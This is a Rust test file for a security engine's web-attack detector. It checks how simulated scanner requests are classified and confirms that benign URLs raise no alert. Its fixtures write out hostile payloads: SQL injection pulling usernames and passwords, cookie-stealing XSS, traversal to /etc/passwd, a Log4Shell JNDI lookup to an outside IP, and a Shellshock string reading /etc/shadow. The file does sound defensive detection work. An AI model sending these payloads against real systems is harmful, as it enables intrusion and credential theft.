use super::common::*;
use serde_json::{json, Value};
use steward_model::{Event, Level};

fn request(secs: f64, src: &str, url: &str, body: Option<&str>, ua: &str) -> Event {
    let mut e = event(json!({
        "@timestamp": ts(secs),
        "event": {"category": ["web"], "type": ["access"]},
        "source": {"ip": src},
        "url": {"original": url},
        "http": {"request": {"method": if body.is_some() { "POST" } else { "GET" }}},
        "user_agent": {"original": ua},
    }));
    if let Some(body) = body {
        e.set("http.request.body.content", body);
    }
    e
}

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

/// (url, body, user agent, expected classes) of a scanner's run against one site.
fn scanner_run() -> Vec<(
    &'static str,
    Option<&'static str>,
    &'static str,
    Vec<&'static str>,
)> {
    vec![
        (
            "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            None,
            CHROME,
            vec!["sqli"],
        ),
        (
            "/login",
            Some("username=admin'--&password=x"),
            CHROME,
            vec!["sqli"],
        ),
        (
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            None,
            CHROME,
            vec!["xss"],
        ),
        (
            "/search?q=%253Csvg%252Fonload%253Dalert(1)%253E",
            None,
            CHROME,
            vec!["xss"],
        ),
        (
            "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
            None,
            CHROME,
            vec!["traversal"],
        ),
        (
            "/static/..%c0%af..%c0%af..%c0%afwindows/win.ini",
            None,
            CHROME,
            vec!["traversal"],
        ),
        (
            "/cgi-bin/ping.cgi?host=127.0.0.1;cat+/etc/passwd",
            None,
            CHROME,
            vec!["command_injection", "traversal"],
        ),
        (
            "/",
            None,
            "${jndi:ldap://198.51.100.5:1389/Exploit}",
            vec!["command_injection"],
        ),
        (
            "/cgi-bin/status",
            None,
            "() { :; }; /bin/bash -c 'cat /etc/shadow'",
            vec!["command_injection", "traversal"],
        ),
        ("/item?id=5%20AND%20SLEEP(5)", None, CHROME, vec!["sqli"]),
        (
            "/index.php?page=php://filter/convert.base64-encode/resource=index",
            None,
            CHROME,
            vec!["traversal"],
        ),
        (
            "/news.php?id=-1+uNiOn/**/aLl/**/sElEcT+1,2,@@version--+",
            None,
            CHROME,
            vec!["sqli"],
        ),
        (
            "/comment",
            Some("text=%26lt%3Bimg+src%3Dx+onerror%3Dalert%26%2340%3B1%26%2341%3B%26gt%3B"),
            CHROME,
            vec!["xss"],
        ),
    ]
}

#[test]
fn every_attack_of_a_scanner_run_is_classified() {
    let mut b = engine(|c| {
        c.web_attack.enabled = true;
        c.web_attack.cooldown_secs = 0;
    });
    let run_ = scanner_run();
    for (i, (url, body, ua, classes)) in run_.iter().enumerate() {
        let found = b.observe_at(&request(i as f64, "203.0.113.66", url, *body, ua), now());
        assert_eq!(found.len(), 1, "{url} {body:?} {ua}: {found:#?}");
        let got: Vec<&str> = found[0].details["classes"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(Value::as_str)
            .collect();
        assert_eq!(
            &got, classes,
            "{url} {body:?} {ua}: {:#?}",
            found[0].details
        );
        assert_eq!(variant(&found[0]), classes[0]);
        assert_eq!(found[0].rule_id, "behaviour.web_attack");
        assert!(found[0].tags.contains(&"attack.t1190".to_owned()));
        let level = if classes[0] == "command_injection" {
            Level::High
        } else {
            Level::Medium
        };
        assert_eq!(found[0].level, level);
    }
    assert_eq!(
        b.stats().model("web_attack").unwrap().detections,
        run_.len() as u64
    );
}

#[test]
fn cooldown_keeps_one_detection_per_source_and_class() {
    let mut b = engine(|c| c.web_attack.enabled = true);
    let events: Vec<_> = scanner_run()
        .iter()
        .enumerate()
        .map(|(i, (url, body, ua, _))| request(i as f64, "203.0.113.67", url, *body, ua))
        .collect();
    let found = run(&mut b, &events);
    let kinds: Vec<_> = found.iter().map(variant).collect();
    assert_eq!(kinds, vec!["sqli", "xss", "traversal", "command_injection"]);
    assert!(found[0].details["evidence"]["text"]
        .as_str()
        .unwrap()
        .contains("union select"));
}

#[test]
fn benign_requests_stay_quiet() {
    let mut b = engine(|c| {
        c.web_attack.enabled = true;
        c.web_attack.cooldown_secs = 0;
    });
    let benign = [
        "/products/selection?sort=select_date&order=asc",
        "/search?q=select+a+gift+from+our+shop",
        "/blog/2024/05/union-station-selects-new-architect",
        "/api/v1/users?fields=id,name&limit=50",
        "/books/javascript:+the+good+parts",
        "/search?q=O%27Reilly+or+Packt",
        "/wiki/Don't_Stop_Me_Now",
        "/cart?item=12&qty=1&coupon=SPRING-SALE--2024",
        "/images/logo.png?v=1.2.3",
        "/a/b/../c.html",
        "/ocsp04-aaica02/ME4wTKADAgEAMEUwQzBBMAkGBSsOAwIaBQAEFNqvF+Za6oA4ceFRLsAWwEInjUhJBBQx6napI3Sl39T97qDBpp7GEQ4R7AIIUP1IOZZ86ns=",
        "/forum?topic=how+to+use+ls+and+cat+in+bash",
        "/search?q=rock%20%26%20roll",
        "/calc?expr=1+or+2",
        "/wp-content/themes/x/style.css?ver=6.4.2",
        "/api/orders?filter=status%3D%27shipped%27",
        "/search?q=%22hello+world%22",
        "/redirect?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2",
        "/info?txtAirPlay&txtRAOP RTSP/1.",
        "/reports/2024/q1/summary.pdf",
        "/docs/sql/the-select-statement.html",
        "/price?min=10&max=100&sort=asc",
        "/events?date=2024-05-01&type=onload-test",
    ];
    let bodies = [
        r#"{"comment":"I'd select this one; really nice","rating":5}"#,
        "username=alice&password=S3cr3t%21%26more",
        "q=union+members+select+their+representatives",
    ];
    let agents = [
        CHROME,
        "curl/8.4.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    ];
    let mut t = 0.0;
    for url in benign {
        for ua in agents {
            t += 1.0;
            let found = b.observe_at(&request(t, "198.51.100.3", url, None, ua), now());
            assert!(found.is_empty(), "{url} / {ua}: {found:#?}");
        }
    }
    for body in bodies {
        t += 1.0;
        let found = b.observe_at(
            &request(t, "198.51.100.3", "/submit", Some(body), CHROME),
            now(),
        );
        assert!(found.is_empty(), "{body}: {found:#?}");
    }
}

#[test]
fn classes_can_be_switched_off() {
    let mut b = engine(|c| {
        c.web_attack.enabled = true;
        c.web_attack.sqli = false;
        c.web_attack.cooldown_secs = 0;
    });
    let sqli = request(0.0, "203.0.113.1", "/p?id=1 union select 1,2", None, CHROME);
    let xss = request(
        1.0,
        "203.0.113.1",
        "/p?q=<script>alert(1)</script>",
        None,
        CHROME,
    );
    assert!(b.observe_at(&sqli, now()).is_empty());
    assert_eq!(b.observe_at(&xss, now()).len(), 1);
}

#[test]
fn path_and_query_without_original_and_many_fields_give_one_detection() {
    let mut b = engine(|c| c.web_attack.enabled = true);
    let e = event(json!({
        "@timestamp": ts(0.0),
        "source": {"ip": "203.0.113.2"},
        "url": {"path": "/view", "query": "file=../../../../etc/passwd"},
        "http": {"request": {"body": {"content": "x=<script>alert(1)</script>"}}},
        "user_agent": {"original": "sqlmap' OR '1'='1"},
    }));
    let found = b.observe_at(&e, now());
    assert_eq!(found.len(), 1);
    assert_eq!(
        found[0].details["classes"],
        json!(["sqli", "traversal", "xss"])
    );
    assert_eq!(
        found[0].details["fields"],
        json!(["url", "http.request.body.content", "user_agent.original"])
    );
}

#[test]
fn scan_limit_bounds_the_work() {
    let padded = format!("/p?pad={}&id=1%20union%20select%201", "a".repeat(100_000));
    let mut b = engine(|c| c.web_attack.enabled = true);
    assert!(b
        .observe_at(&request(0.0, "203.0.113.3", &padded, None, CHROME), now())
        .is_empty());
    let mut b = engine(|c| {
        c.web_attack.enabled = true;
        c.web_attack.max_scan_bytes = 200_000;
    });
    assert_eq!(
        b.observe_at(&request(0.0, "203.0.113.3", &padded, None, CHROME), now())
            .len(),
        1
    );
}
